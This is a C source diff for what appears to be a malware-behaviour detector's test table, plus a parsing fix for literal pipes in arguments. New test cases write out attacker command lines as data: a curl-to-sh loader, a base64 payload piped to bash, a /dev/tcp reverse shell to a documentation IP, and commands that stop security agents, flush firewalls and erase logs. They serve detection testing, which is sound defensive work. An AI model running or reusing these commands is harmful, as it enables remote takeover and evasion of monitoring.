@@ -38,8 +38,11 @@ struct tproc {
 
 /*
  * exe, cwd: paths (NULL: unknown). args: argv joined by '|', so arguments
- * may hold spaces (NULL: no argv at all).
+ * may hold spaces (NULL: no argv at all); PIPE inside an argument is a
+ * literal '|' (shell pipelines in sh -c command lines).
  */
+#define PIPE "\x1f"
+
 static void tproc_set(struct tproc *t, const char *exe, const char *args,
 		      const char *cwd)
 {
@@ -66,8 +69,14 @@ static void tproc_set(struct tproc *t, const char *exe, const char *args,
 	}
 	if (args) {
 		snprintf(t->argbuf, sizeof(t->argbuf), "%s", args);
-		for (s = t->argbuf; (tok = strsep(&s, "|")) && n < 63;)
+		for (s = t->argbuf; (tok = strsep(&s, "|")) && n < 63;) {
+			/* PIPE ("\x1f") stands for a literal '|' in an
+			 * argument. */
+			for (char *c = tok; *c; c++)
+				if (*c == '\x1f')
+					*c = '|';
 			t->argv[n++] = tok;
+		}
 		t->argv[n] = NULL;
 		t->p.argv = t->argv;
 		t->p.argc = n;
@@ -934,6 +943,31 @@ static const struct dcase dcases[] = {
      "--cpu-max-threads-hint=75",
      "/", NULL, "/usr/bin/dash", "sh", "/usr/sbin/sshd", 0,
      "MW-MINER-003,MW-MINER-004"},
+    {"dropper kills competitors (sh -c)", "/usr/bin/pkill",
+     "pkill|-f|kdevtmpfsi", "/", NULL, "/usr/bin/dash",
+     "sh|-c|pkill -f kdevtmpfsi; pkill -f xmrig", "/usr/sbin/cron", 0,
+     "MW-EVASION-002"},
+    {"dropper stops the security agent", "/usr/bin/systemctl",
+     "systemctl|stop|aliyun.service", "/", NULL, "/usr/bin/bash",
+     "bash|/tmp/.x/init.sh", NULL, 0, "MW-EVASION-001"},
+    {"cron entry: curl | sh", "/usr/bin/dash",
+     "/bin/sh|-c|curl -fsSL http://203.0.113.9/ldr.sh " PIPE " sh", "/root",
+     NULL, "/usr/sbin/cron", "/usr/sbin/CRON|-f", NULL, 0, "MW-EVASION-004"},
+    {"base64 payload to bash", "/usr/bin/bash",
+     "bash|-c|echo Y3VybCBodHRwOi8veA== " PIPE " base64 -d " PIPE " bash", "/",
+     NULL, "/usr/bin/bash", "bash", NULL, 0, "MW-EVASION-005"},
+    {"reverse shell over /dev/tcp", "/usr/bin/bash",
+     "bash|-c|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/", NULL,
+     "/usr/bin/dash", "sh", NULL, 0, "MW-EVASION-006"},
+    {"xmrig loads the msr module", "/usr/sbin/modprobe",
+     "/sbin/modprobe|msr|allow_writes=on", "/", NULL, "/usr/bin/dash",
+     "sh|-c|/sbin/modprobe msr allow_writes=on > /dev/null 2>&1", NULL, 0,
+     "MW-MINER-008"},
+    {"logs vacuumed by hand", "/usr/bin/journalctl",
+     "journalctl|--vacuum-time=1s", "/", NULL, "/usr/bin/bash", "bash", NULL, 0,
+     "MW-FORENSICS-001"},
+    {"setenforce 0 and firewall flushed", "/usr/sbin/iptables", "iptables|-F",
+     "/", NULL, "/usr/bin/bash", "bash|/tmp/i.sh", NULL, 0, "MW-EVASION-003"},
     {"minerd from /tmp with cryptonight over stratum+ssl", "/tmp/minerd",
      "minerd|-a|cryptonight|-o|stratum+ssl://x.example:443", "/tmp", NULL,
      "/usr/bin/bash", "bash", "/usr/sbin/sshd", 0,
@@ -1000,6 +1034,19 @@ static const struct dcase dcases[] = {
      "/src", NULL, NULL, NULL, NULL, 0, ""},
     {"pkill a miner", "/usr/bin/pkill", "pkill|-f|xmrig", "/", NULL, NULL, NULL,
      NULL, 0, ""},
+    {"admin pkill from an interactive shell", "/usr/bin/pkill",
+     "pkill|-9|kdevtmpfsi", "/root", NULL, "/usr/bin/bash", "-bash",
+     "/usr/sbin/sshd", 0, ""},
+    {"admin stops nginx", "/usr/bin/systemctl", "systemctl|stop|nginx", "/",
+     NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
+    {"admin curls a page", "/usr/bin/curl", "curl|-fsSL|https://example.org/",
+     "/", NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
+    {"modprobe a filesystem", "/usr/sbin/modprobe", "modprobe|ext4", "/", NULL,
+     "/usr/bin/bash", "-bash", NULL, 0, ""},
+    {"journalctl reading logs", "/usr/bin/journalctl", "journalctl|-u|ssh", "/",
+     NULL, "/usr/bin/bash", "-bash", NULL, 0, ""},
+    {"nc as a client", "/usr/bin/nc", "nc|-zv|10.0.0.1|22", "/", NULL,
+     "/usr/bin/bash", "-bash", NULL, 0, ""},
     {"cargo from ~/.cargo/bin", "/home/dev/.cargo/bin/cargo", "cargo|build",
      "/home/dev/src", NULL, NULL, NULL, NULL, 0, ""},
     {"rustc from ~/.rustup",
